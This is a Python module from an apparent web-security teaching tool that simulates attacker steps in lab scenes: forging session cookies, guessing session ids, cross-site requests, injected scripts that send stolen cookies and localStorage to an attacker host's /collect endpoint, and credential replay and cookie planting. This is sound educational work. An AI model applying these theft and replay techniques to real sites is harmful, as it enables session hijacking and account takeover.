"""The attacker's steps and the other side-channels of a scene: a forged cookie, a
guessed session id, a cross-site request from evil.test, an injected script, a copy of
the credentials (`capture`) replayed by a plain HTTP client, a planted cookie, and the
lab's Set-Cookie lines.

Split from `actions.py` (the user's own steps); both act through the site's page script
(`page_script.py`) and are listed in `actions.ACTION_RUNNERS`.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from urllib.parse import urlencode

from tutor.browser.browser import Browser
from tutor.browser.events import Exchange
from tutor.browser.webcrypto import PageKey, dpop_proof
from tutor.scenes.model import Step
from tutor.scenes.page_script import auth_headers, dpop_on, on_site, page_tokens
from tutor.scenes.step_io import StepFailed, StepIO
from tutor.scenes.world import World
from tutor.server.signed import read_unverified


async def tamper_cookie(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    name = step.params.get("name") or _session_cookie_name(world, browser)
    cookie = next((c for c in browser.jar.cookies() if c.name == name), None)
    if cookie is None:
        raise StepFailed(f"no cookie {name!r} in the jar to tamper with")
    data = read_unverified(cookie.value)
    if data is None:
        raise StepFailed(f"cookie {name!r} does not hold readable session data")
    data.update(step.params["set"])
    payload = base64.urlsafe_b64encode(json.dumps(data, separators=(",", ":")).encode())
    rest = cookie.value.split(".", 1)[1]
    io.user(f"{step.actor} edits the {name} cookie in devtools, keeping its signature")
    browser.jar.devtools_set(cookie, f"{payload.decode()}.{rest}")


async def guess_session_id(world: World, step: Step, io: StepIO) -> None:
    """The attacker reads their own session id and works out a neighbour's: easy when
    ids are numbered in sequence, hopeless when they are 256 random bits."""
    browser = world.browser(step.actor)
    name = _session_cookie_name(world, browser)
    own = next(c.value for c in browser.jar.cookies() if c.name == name)
    offset = int(step.params.get("offset", -1))
    if own.isdigit():
        guess = f"{max(int(own) + offset, 0):0{len(own)}d}"
    else:
        # Random ids have no neighbours: the best a guess can do is change a character.
        guess = own[:-1] + ("B" if own[-1] == "A" else "A")
    io.user(f"{step.actor} reads their own session id ({_short(own)}) and guesses "
            f"{_short(guess)}")
    world.captured = {name: guess}


def _short(value: str) -> str:
    return value if len(value) <= 12 else f"{value[:8]}…"


def _session_cookie_name(world: World, browser: Browser) -> str:
    names = {c.name for c in browser.jar.cookies()}
    for candidate in ("__Host-session", "session", "__Host-sid", "sid"):
        if candidate in names:
            return candidate
    raise StepFailed("no session cookie in the jar")


async def cross_site_request(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    origin = step.params.get("from", world.attacker_origin)
    io.user(f"{step.actor} opens a page on {origin}")
    await browser.navigate(f"{origin}/")
    url = world.url(step.params["path"])
    method = str(step.params.get("method", "POST")).upper()
    fields = {str(k): str(v) for k, v in step.params.get("fields", {}).items()}
    kind = step.params.get("kind", "form")
    io.primary()
    if kind == "form":
        await browser.submit_form(url, fields, method)
    elif kind == "navigate":
        await browser.navigate(url, from_page=True)
    else:
        body = urlencode(fields) if fields else None
        headers = {"Content-Type": "application/x-www-form-urlencoded"} if fields else {}
        await browser.fetch(url, method, headers=headers, body=body, credentials="include")


async def xss_steal(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    await on_site(world, browser)
    reads = step.params.get("read", ["document.cookie", "localStorage"])
    reads = [reads] if isinstance(reads, str) else reads
    io.user(f"an injected script runs in {world.site}'s page")
    script = browser.script()
    for what in reads:
        if what == "document.cookie":
            value = script.document_cookie()
        elif what in ("localStorage", "sessionStorage"):
            value = json.dumps(script.storage(what), sort_keys=True)
        elif what == "dpop key":
            # The script tries crypto.subtle.exportKey and gets only the refusal.
            value = script.export_dpop_key()
        else:
            raise StepFailed(f"a script can read document.cookie, localStorage, "
                             f"sessionStorage or try the dpop key, not {what!r}")
        query = urlencode({"what": what, "value": value})
        await script.fetch(f"{world.attacker_origin}/collect?{query}", "GET",
                           credentials="omit")


async def xss_request(world: World, step: Step, io: StepIO) -> None:
    """An injected script calls the site's API as the page's own script does (its token,
    and with DPoP a fresh proof from the page's key), then sends the answer to evil.test."""
    browser = world.browser(step.actor)
    await on_site(world, browser)
    method = str(step.params.get("method", "GET")).upper()
    path = step.params["path"]
    io.user(f"an injected script in {world.site}'s page calls {method} {path} itself")
    url = world.url(path)
    headers = auth_headers(world, step, browser, method, url)
    script = browser.script()
    io.primary()
    result = await script.fetch(url, method, headers=headers)
    answer = (result.response.body.decode("utf-8", "replace")[:500]
              if isinstance(result, Exchange) else "blocked")
    query = urlencode({"what": "api response", "value": answer})
    await script.fetch(f"{world.attacker_origin}/collect?{query}", "GET", credentials="omit")


async def capture(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    io.user(f"a copy of {step.actor}'s credentials is taken (a shared computer, a log, a proxy)")
    world.captured = {c.name: c.value for c in browser.jar.cookies()}
    world.captured.update(page_tokens(world, browser))
    proof = world.pages[browser.name].last_dpop_proof
    if proof:
        # A proxy or a log sees the DPoP header too; never the key that signed it.
        world.captured["dpop_proof"] = proof


async def set_cookie(world: World, step: Step, io: StepIO) -> None:
    """A lab site answers with the given Set-Cookie lines: opened by the user, or fetched
    by the script of a page on `from` (a third-party context when the sites differ)."""
    browser = world.browser(step.actor)
    lines = step.params["cookie"]
    lines = [lines] if isinstance(lines, str) else [str(line) for line in lines]
    query = [("cookie", line) for line in lines]
    if "count" in step.params:
        query.append(("count", str(step.params["count"])))
    url = world.url(step.params["url"]).rstrip("/")
    target = f"{url}/set?{urlencode(query)}"
    page = step.params.get("from")
    if page is None:
        io.primary()
        await browser.navigate(target)
        return
    if browser.page_origin != page.rstrip("/"):
        await browser.navigate(f"{page.rstrip('/')}/")
    io.primary()
    await browser.fetch(target, str(step.params.get("method", "GET")), credentials="include")


async def plant_cookie(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    name = step.params["name"]
    value = step.params.get("value") or world.captured.get(name)
    if not value:
        raise StepFailed(f"no value for {name!r}: give `value` or capture one first")
    scheme, host = world.site.split("://", 1)
    host = host.split(":")[0]
    secure = "; Secure" if scheme == "https" else ""
    if step.params.get("via", "subdomain") == "subdomain":
        sibling = f"{scheme}://attacker.{host}/"
        io.user(f"{step.actor} visits {sibling}, a subdomain the attacker controls, "
                f"which sets a cookie for all of {host}")
        browser.receive_cookie_from(sibling, f"{name}={value}; Domain={host}; Path=/{secure}")
    else:
        await on_site(world, browser)
        io.user(f"an injected script on {world.site} writes document.cookie")
        browser.script().set_cookie(f"{name}={value}; Path=/{secure}")


async def replay(world: World, step: Step, io: StepIO) -> None:
    browser = world.browser(step.actor)
    use = step.params.get("use", "captured")
    headers: dict[str, str] = {}
    if use == "document.cookie":
        loot = world.attacker.latest("document.cookie")
        if loot is None:
            raise StepFailed("the attacker has stolen no document.cookie: add an xss_steal step")
        if loot.value:  # HttpOnly hid the session cookie: then there is nothing to send
            headers["Cookie"] = loot.value
    elif use in ("localStorage", "sessionStorage"):
        loot = world.attacker.latest(use)
        if loot is None:
            raise StepFailed(f"the attacker has stolen no {use}: add an xss_steal step")
        token = json.loads(loot.value).get("access_token")
        if token:
            headers["Authorization"] = f"{_replay_scheme(world, step)} {token}"
    else:
        if not world.captured:
            raise StepFailed("nothing was captured: add a `capture` step first")
        if "access_token" in world.captured:
            headers["Authorization"] = (f"{_replay_scheme(world, step)} "
                                        f"{world.captured['access_token']}")
        cookies = {k: v for k, v in world.captured.items()
                   if k not in ("access_token", "refresh_token", "dpop_proof")}
        if cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    io.user(f"{step.actor} replays the credential with a plain HTTP client")
    method = str(step.params.get("method", "GET")).upper()
    url = world.url(step.params["path"])
    headers.update(_replay_proof(world, step, method, url, headers))
    io.primary()
    await browser.send_raw(method, url, headers)


def _replay_scheme(world: World, step: Step) -> str:
    """How the thief sends a stolen token: as the site's page would, unless told."""
    default = "DPoP" if dpop_on(world) else "Bearer"
    return str(step.params.get("scheme", default))


def _replay_proof(world: World, step: Step, method: str, url: str,
                  headers: Mapping[str, str]) -> dict[str, str]:
    """The thief's DPoP header: none, the victim's copied one, or one they sign with a key
    of their own (they never hold the victim's: it cannot be exported)."""
    how = step.params.get("dpop", "none")
    if how == "captured":
        proof = world.captured.get("dpop_proof")
        if not proof and not dpop_on(world):
            return {}  # a bearer server's traffic has no DPoP header to copy
        if not proof:
            raise StepFailed("no DPoP proof was captured: capture after a request that "
                             "carried one")
        return {"DPoP": proof}
    if how == "own_key":
        token = headers.get("Authorization", " ").split(" ", 1)[1] or None
        return {"DPoP": dpop_proof(PageKey(), method, url, world.clock.now(), token)}
    return {}


